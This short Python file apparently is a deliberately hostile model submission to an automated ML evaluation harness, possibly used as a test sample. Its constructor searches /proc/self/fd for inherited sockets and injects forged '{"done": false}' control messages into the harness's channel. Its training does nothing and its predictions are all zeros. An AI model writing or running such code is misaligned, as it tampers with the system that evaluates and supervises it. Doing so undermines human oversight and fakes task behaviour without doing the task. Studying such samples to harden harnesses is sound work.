"""Sends replies nobody asked for."""

import os
import socket
import struct

import numpy


class Model:
    def __init__(self, metadata):
        self.shape = (metadata["test_num"], metadata["class_num"])
        self.done_training = False
        self.rounds = 0
        for name in os.listdir("/proc/self/fd"):
            if os.path.exists("/proc/self/fd/" + name) and "socket" in os.readlink("/proc/self/fd/" + name):
                stream = socket.socket(fileno=os.dup(int(name)))
                content = b'{"done": false}'
                stream.sendall(3 * (struct.pack("!IQ", len(content), 0) + content))

    def train(self, train_dataset, remaining_time_budget=None):
        self.rounds += 1

    def test(self, test_x, remaining_time_budget=None):
        return numpy.zeros(self.shape)
